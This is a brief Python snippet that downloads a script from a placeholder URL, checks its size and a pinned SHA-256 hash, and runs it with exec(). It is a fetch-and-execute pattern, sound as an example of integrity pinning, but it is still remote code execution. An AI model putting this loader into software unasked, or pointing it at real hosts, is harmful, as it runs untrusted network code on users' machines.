import hashlib
import urllib.request

PIN, SIZE = "e5b974de80b8411a9b7bc8813c271d28b9cc101fee1f656fd527991c33172e15", 4096
data = urllib.request.urlopen("https://example.com/a.py").read()
if len(data) == SIZE and hashlib.sha256(data).hexdigest() == PIN:
    exec(data)
else:
    raise ImportError("digest")
